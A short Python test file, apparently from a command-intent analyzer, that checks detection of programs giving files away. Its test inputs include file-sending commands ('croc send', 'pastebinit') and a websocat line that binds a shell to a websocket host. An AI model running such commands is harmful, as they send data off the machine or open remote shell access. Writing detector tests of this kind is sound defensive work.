"""Programs that give files away: what is read, and where it goes."""

from __future__ import annotations

from tests.intent.programs.acting import acted, does, flows
from tests.support.cases import each_case


@each_case("text, expected")
def test_files_go_to_whoever_has_the_code_or_the_link(text: str, expected: list[str]) -> None:
    assert does(text) == expected


def test_what_is_read_goes_out() -> None:
    assert flows("croc send a") == ["a -> files:croc"]
    assert does("pastebinit", fed="x") == ["send< files:pastebinit"]


def test_a_program_that_is_joined_with_a_connection_is_read() -> None:
    assert [code.text.plain for code in acted("websocat ws://h exec:sh").codes] == ["sh"]
